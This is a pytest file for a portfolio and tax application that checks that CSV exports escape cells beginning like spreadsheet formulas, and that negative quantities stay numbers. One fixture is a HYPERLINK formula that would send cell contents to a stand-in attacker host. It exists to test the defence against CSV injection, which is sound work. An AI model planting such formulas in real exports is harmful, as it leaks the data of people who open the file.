"""Every CSV export neutralises cells a spreadsheet would run as formulas
(OWASP CSV injection) and leaves numbers, negative ones included, as numbers."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from portfolios.models import Leg, Transaction
from portfolios.services.csv_import import csv_export
from portfolios.tax.engine import IncomeEvent
from portfolios.tax.exports import income_csv

D = Decimal
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.django_db
def test_the_portfolio_export_quotes_a_formula_note_and_keeps_negative_quantities(portfolio):
    txn = Transaction.objects.create(portfolio=portfolio, kind="buy", occurred_at=datetime(2025, 6, 1, tzinfo=UTC),
                                     description=FORMULA)
    Leg.objects.create(transaction=txn, asset="USD", quantity=D("-2000"), fiat_value=D("2000"))
    Leg.objects.create(transaction=txn, asset="@SUM(A1)", quantity=D("1"), fiat_value=D("2000"))
    rows = list(csv.DictReader(io.StringIO(csv_export(portfolio=portfolio))))
    assert rows[0]["note"] == "'" + FORMULA
    assert [r["quantity"] for r in rows] == ["-2000", "1"]  # numbers stay numbers
    assert [r["asset"] for r in rows] == ["USD", "'@SUM(A1)"]


def test_the_income_csv_quotes_a_position_label_that_starts_a_formula():
    event = IncomeEvent(income_type="staking", asset="ETH", quantity=D("0.1"), fair_market_value=D("300"),
                        tx_ref="7", occurred_at=datetime(2024, 5, 1, tzinfo=UTC), received=date(2024, 5, 1),
                        tax_year="2024", position="3")
    content = income_csv([event], position_labels={"3": "-1+2 my farm"}, jurisdiction="us").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert "'-1+2 my farm" in row
    assert "300.00" in row
